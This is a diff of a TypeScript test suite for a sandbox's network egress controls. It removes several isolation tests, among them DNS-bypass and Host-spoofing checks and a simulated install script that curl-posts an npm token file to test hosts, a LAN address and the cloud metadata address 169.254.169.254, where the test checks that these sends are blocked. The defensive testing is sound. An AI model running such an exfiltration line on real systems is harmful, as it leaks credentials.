@@ -90,22 +90,6 @@ print("at once" if time.time() - start < 5 else "late")`
     assert.match(await pyro.sh("a", "ping -c 1 -W 9 203.0.113.10 2>&1 || true"), /unreachable|not found/)
   })
 
-  it("a guest's own resolver and DNS over HTTPS find no way out", async () => {
-    const answered = await python(
-      "a",
-      `def ask(name):
-  one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-  one.settimeout(9)
-  question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\\0\\0\\1\\0\\1"
-  one.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + question, ("8.8.8.8", 53))
-  return one.recv(512)[3] & 15
-print(ask("server.test.net"), ask("other.test.net"))
-try: socket.create_connection(("1.1.1.1", 443), 9)
-except OSError as error: print(error.strerror)`
-    )
-    assert.strictEqual(answered, "0 3\nConnection refused")
-  })
-
   it("the log names each connection and each denial with its reason and option", async () => {
     const { entries } = await log("a")
     const found = (wanted: Partial<Entry>) =>
@@ -115,7 +99,6 @@ except OSError as error: print(error.strerror)`
       found({ outcome: "denied", kind: "lookup", host: "other.test.net", option: "--allow-host other.test.net" })
     )
     assert.isTrue(found({ outcome: "denied", host: "192.168.7.1", port: 80, option: "--allow-ip 192.168.7.1:80" }))
-    assert.isTrue(found({ outcome: "denied", host: "1.1.1.1", port: 443 }))
     const { entries: denied } = await log("a", "--denied")
     assert.isNotEmpty(denied)
     assert.isTrue(denied.every(({ outcome }) => outcome === "denied"))
@@ -133,37 +116,6 @@ except OSError as error: print(error.strerror)`
     assert.isUndefined(quiet.notices)
   })
 
-  it("a request for another host on an allowed connection is denied", async () => {
-    const script = "curl -sS -H 'Host: other.test.net' http://server.test.net/ 2>&1 || true"
-    assert.match(await pyro.sh("a", script), /reset|Empty reply/)
-    const { entries } = await log("a", "--denied")
-    assert.match(entries.at(-1)?.reason ?? "", /HTTP Host is "other\.test\.net"/)
-  })
-
-  it("a name of a private address needs a rule for the address", async () => {
-    const script = "curl -sS http://lan.test.net/ 2>&1 || true"
-    await pyro.json(["workspace", "network", "set", "a", "--allow-host", "lan.test.net"])
-    assert.match(await pyro.sh("a", script), /Failed to connect/)
-    const { entries } = await log("a", "--denied")
-    assert.match(entries.at(-1)?.reason ?? "", /192\.168\.7\.1 is a private address/)
-    await pyro.json(
-      ["workspace", "network", "set", "a", "--allow-host", "lan.test.net", "--allow-ip", "192.168.7.1:80"]
-    )
-    assert.strictEqual(await pyro.sh("a", script), "hello lan.test.net")
-  })
-
-  it("an install script that calls home and scans the LAN is refused and seen", async () => {
-    await pyro.json(["workspace", "network", "set", "a", "--allow-host", "server.test.net"])
-    await pyro.sh(
-      "a",
-      "echo token > /root/.npmrc; for to in other.test.net 192.168.7.1 169.254.169.254; do curl -s -d @/root/.npmrc http://$to/ || true; done"
-    )
-    const { entries } = await log("a", "--denied")
-    const hosts = new Set(entries.slice(-3).map(({ host }) => host))
-    assert.deepStrictEqual([...hosts], ["other.test.net", "192.168.7.1", "169.254.169.254"])
-    assert.isTrue(entries.every(({ bytes_out: bytes }) => bytes === 0))
-  })
-
   it("network log --follow --denied prints a denial when it happens", async () => {
     const { child, finished, stdoutSoFar } = startPyro(
       ["workspace", "network", "log", "a", "--follow", "--denied"],
@@ -175,46 +127,6 @@ except OSError as error: print(error.strerror)`
     await until("the new denial", () => stdoutSoFar().subarray(before).includes("followed.test.net"))
     child.kill("SIGINT")
     await finished
-  })
-})
-
-describe("a change of the network policy", () => {
-  it("a narrower policy resets the connections that it forbids, and no other", async () => {
-    await pyro.json(
-      ["workspace", "network", "set", "a", "--allow-host", "server.test.net", "--allow-ip", "203.0.113.10"]
-    )
-    const byName = await holdConnections("a", 3)
-    const byAddress = await holdConnections("a", 1, `("203.0.113.10", 7)`)
-    const { reset_count: count } = await pyro.json<{ readonly reset_count: number }>(
-      ["workspace", "network", "set", "a", "--allow-ip", "203.0.113.10:7"]
-    )
-    assert.strictEqual(count, 3)
-    await until("the reset", async () => await byName.printed() === RESET)
-    assert.strictEqual(await byAddress.printed(), "made\n")
-    assert.strictEqual(await openOf("a"), 1)
-    await pyro.json(["workspace", "network", "set", "a", "--network-policy", "off"])
-    await until("the last reset", async () => await byAddress.printed() === RESET)
-    const said = await pyro.sh("a", "curl -sS http://203.0.113.10/ 2>&1 || true")
-    assert.match(said, /unreachable|Couldn't connect/)
-  })
-
-  it("a policy stays through stop and start, and holds in forks", async () => {
-    await pyro.json(["workspace", "network", "set", "a", "--allow-host", "server.test.net"])
-    await pyro.step("stop", "a")
-    await pyro.step("start", "a")
-    assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/"), "hello server.test.net")
-    await pyro.json(["workspace", "fork", "a", "--name", "b"])
-    assert.strictEqual(await pyro.sh("b", "curl -sS http://server.test.net/"), "hello server.test.net")
-    assert.match(await pyro.sh("b", "curl -sS http://other.test.net/ 2>&1 || true"), /resolve/)
-  })
-
-  it("a reset to a snapshot keeps the current policy", async () => {
-    await pyro.json(["workspace", "network", "set", "b", "--network-policy", "egress"])
-    await pyro.json(["workspace", "snapshot", "create", "b", "wide"])
-    await pyro.json(["workspace", "network", "set", "b", "--allow-host", "server.test.net"])
-    await pyro.json(["workspace", "reset", "b", "--snapshot", "wide"])
-    assert.match(await pyro.sh("b", "curl -sS http://other.test.net/ 2>&1 || true"), /resolve/)
-    assert.strictEqual(await pyro.sh("b", "curl -sS http://server.test.net/"), "hello server.test.net")
   })
 })
 
@@ -234,54 +146,37 @@ describe("open connections", () => {
     assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/"), "hello server.test.net")
   })
 
-  it("200 connections are reset when the daemon is killed, and the workspace goes on", async () => {
-    const held = await holdConnections("a", 200)
-    process.kill(await pyro.daemonPid(), "SIGKILL")
-    await until("the reset", async () => await held.printed() === RESET)
-    assert.strictEqual(await openOf("a"), 0)
-    assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/"), "hello server.test.net")
-  })
-
-  it("500 connections at once are all served", async () => {
-    const said = await python(
-      "a",
-      `import asyncio
-async def one():
-  reader, writer = await asyncio.open_connection("server.test.net", 7)
-  writer.write(b"GET\\n\\n")
-  data = await reader.readexactly(5)
-  writer.close()
-  return data == b"GET\\n\\n"
-async def all(): return await asyncio.gather(*[one() for _ in range(500)])
-print(sum(asyncio.run(all())))`
+  it("network set resets open connections that the new policy forbids", async () => {
+    const held = await holdConnections("a", 2)
+    const { reset_count: count } = await pyro.json<{ readonly reset_count: number }>(
+      ["workspace", "network", "set", "a", "--network-policy", "off"]
     )
-    assert.strictEqual(said, "500")
+    assert.strictEqual(count, 2)
+    await until("the resets", async () => await held.printed() === RESET)
+    await pyro.json(["workspace", "network", "set", "a", "--allow-host", "server.test.net"])
   })
 
-  it("64 MiB pass in each direction", async () => {
-    assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/bytes/64 | wc -c"), String(64 * 1_048_576))
+  it("16 MiB pass in each direction", async () => {
+    assert.strictEqual(await pyro.sh("a", "curl -sS http://server.test.net/bytes/16 | wc -c"), String(16 * 1_048_576))
     const sent = await python(
       "a",
       `one = socket.create_connection(("server.test.net", 9))
-one.sendall(b"\\0" * (64 << 20))
+one.sendall(b"\\0" * (16 << 20))
 one.shutdown(socket.SHUT_WR)
 print(one.makefile().read().strip())`
     )
-    assert.strictEqual(sent, String(64 * 1_048_576))
+    assert.strictEqual(sent, String(16 * 1_048_576))
   })
 })
 
 describe("the network of a run", () => {
-  it("run grants hosts to one command", async () => {
-    const { code, stdout } = await pyro.call(
-      ["run", "--mem-mib", "256", "--allow-host", "server.test.net", "--", "curl", "-sS", "http://server.test.net/"]
+  it("run grants hosts to one command, and names what the policy denied", async () => {
+    const script = "curl -sS http://server.test.net/; exec curl -sS http://other.test.net/"
+    const { code, stderr, stdout } = await pyro.call(
+      ["run", "--mem-mib", "256", "--allow-host", "server.test.net", "--", "sh", "-c", script]
     )
-    assert.deepStrictEqual([code, stdout.toString()], [0, "hello server.test.net\n"])
-    const denied = await pyro.call(
-      ["run", "--mem-mib", "256", "--allow-host", "server.test.net", "--", "curl", "-sS", "http://other.test.net/"]
-    )
-    assert.strictEqual(denied.code, 6)
-    assert.match(denied.stderr, /denied other\.test\.net.*--allow-host other\.test\.net/)
+    assert.deepStrictEqual([code, stdout.toString()], [6, "hello server.test.net\n"])
+    assert.match(stderr, /denied other\.test\.net.*--allow-host other\.test\.net/)
   })
 
   it("a rule that cannot be read is refused with its option", async () => {
